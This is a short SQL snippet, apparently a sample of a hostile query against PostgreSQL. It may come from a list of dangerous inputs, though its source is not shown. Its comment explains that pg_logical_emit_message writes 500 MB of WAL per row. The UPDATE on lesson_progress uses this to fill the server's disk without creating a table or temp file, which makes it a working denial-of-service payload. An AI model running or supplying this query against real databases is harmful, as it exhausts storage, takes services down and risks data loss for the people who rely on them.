-- pg_logical_emit_message writes 500 MB of WAL for every row: the disk fills without a table and without a temp file
UPDATE lesson_progress SET score = score WHERE pg_logical_emit_message(false, 'x', repeat('y', 500000000)) IS NULL
